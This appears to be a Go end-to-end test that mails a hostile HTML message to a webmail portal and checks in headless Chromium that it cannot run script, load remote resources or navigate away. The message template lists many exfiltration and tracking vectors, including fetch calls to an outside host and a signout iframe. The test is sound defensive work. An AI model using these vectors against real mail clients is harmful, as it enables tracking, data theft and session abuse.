package e2e

import (
	"context"
	"fmt"
	"net"
	"net/smtp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hostileMail tries every way out that a message has; %[1]s is a machine that
// must not hear of it, %[2]s the portal.
const hostileMail = `<!doctype html><html><head><title>hostile</title>
<base href="http://%[1]s/base/"><meta http-equiv="refresh" content="0;url=http://%[1]s/refresh">
<link rel="preconnect" href="http://%[1]s"><link rel="dns-prefetch" href="//%[1]s"><link rel="prefetch" href="http://%[1]s/prefetch">
<link rel="stylesheet" href="http://%[1]s/sheet"><style>@import url(http://%[1]s/import); @font-face {font-family: f; src: url(http://%[1]s/font)}
body {background: url(http://%[1]s/background); font-family: f}</style>
<script>document.title = "ran"; top.document.title = "ran"; fetch("http://%[1]s/fetch")</script><script src="http://%[1]s/script"></script></head>
<body onload="top.location = 'http://%[1]s/onload'"><h1>You have won</h1>
<img src="http://%[1]s/image" onerror="top.document.title = 'ran'"><img src="x" srcset="http://%[1]s/srcset 2x">
<picture><source srcset="http://%[1]s/source"><img src="data:,"></picture>
<svg onload="top.document.title = 'ran'"><image href="http://%[1]s/svg"/></svg>
<iframe src="http://%[1]s/frame"></iframe><iframe src="%[2]s/signout"></iframe><object data="http://%[1]s/object"></object><embed src="http://%[1]s/embed">
<video src="http://%[1]s/video" poster="http://%[1]s/poster" autoplay></video><audio src="http://%[1]s/audio" autoplay></audio>
<form id="f" action="http://%[1]s/form"><input name="code" value="123456"><button id="send">Send</button></form>
<a id="plain" href="http://%[1]s/link" ping="http://%[1]s/ping">a</a> <a id="top" target="_top" href="http://%[1]s/top">b</a>
<a id="blank" target="_blank" href="http://%[1]s/blank">c</a> <a id="js" href="javascript:top.document.title='ran'">d</a></body></html>`

// TestAHostileMailReachesNobody shows a message that tries to run, to load and to
// leave, in the frame of its page and alone.
func TestAHostileMailReachesNobody(t *testing.T) {
	browser := chromium(t)
	p := start(t, "portal", anyPorts...)
	r := p.ready(t)
	outside, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	heard := make(chan string, 100)
	go listen(outside, heard)
	t.Cleanup(func() { assert.NoError(t, outside.Close()) })
	mail := "From: thief@evil.example\r\nTo: alice@home.example\r\nSubject: You have won\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
		strings.ReplaceAll(fmt.Sprintf(hostileMail, outside.Addr(), r.Portal), "\n", "\r\n")
	require.NoError(t, smtp.SendMail(r.SMTP, nil, "thief@evil.example", []string{"alice@home.example"}, []byte(mail)))

	ctx, cancel := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	require.NoError(t, chromedp.Do(ctx))
	ctx, cancel = context.WithTimeout(ctx, patience)
	t.Cleanup(cancel)
	title := func() string {
		t.Helper()
		name, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.title`))
		require.NoError(t, err)
		return name
	}
	for _, page := range []string{"/lab/mailbox/1", "/lab/mailbox/1/html"} {
		require.NoError(t, chromedp.Do(ctx, chromedp.EmulateViewport(1280, 1600), chromedp.Navigate(r.Portal+page)), page)
		assert.NotContains(t, title(), "ran", page)
	}
	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(r.Portal+"/lab/mailbox/1")))
	require.NoError(t, chromedp.Do(ctx, chromedp.Evaluate[chromedp.Void](`document.querySelector(".tabs li:last-child a").focus()`)))
	for stops := 0; ; stops++ { // field, button and links are the next ones of the Tab key
		require.Less(t, stops, 20, "the Tab key leaves the frame behind its last link")
		require.NoError(t, chromedp.Do(ctx, chromedp.KeyEvent(kb.Tab)))
		name, err := chromedp.Run(ctx, chromedp.Evaluate[string](focused))
		require.NoError(t, err)
		if name == "Open it alone" {
			assert.GreaterOrEqual(t, stops, 6)
			break
		}
		require.NoError(t, chromedp.Do(ctx, chromedp.KeyEvent(kb.Enter)))
	}
	at, err := chromedp.Run(ctx, chromedp.Location())
	require.NoError(t, err)
	assert.Equal(t, r.Portal+"/lab/mailbox/1", at, "no press leads away")
	assert.NotContains(t, title(), "ran")
	select {
	case what := <-heard:
		assert.Fail(t, "the mail reached a machine outside", what)
	default:
	}

	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate("http://"+outside.Addr().String()+"/probe")))
	select {
	case what := <-heard:
		assert.Contains(t, what, "/probe", "the listener would have heard")
	case <-time.After(patience):
		t.Fatal("the listener is deaf")
	}
}

// listen says what is asked for, or that somebody connected.
func listen(l net.Listener, heard chan<- string) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		b := make([]byte, 300)
		n, _ := c.Read(b)
		heard <- "connected: " + string(b[:n])
		_, _ = c.Write([]byte("HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"))
		_ = c.Close()
	}
}
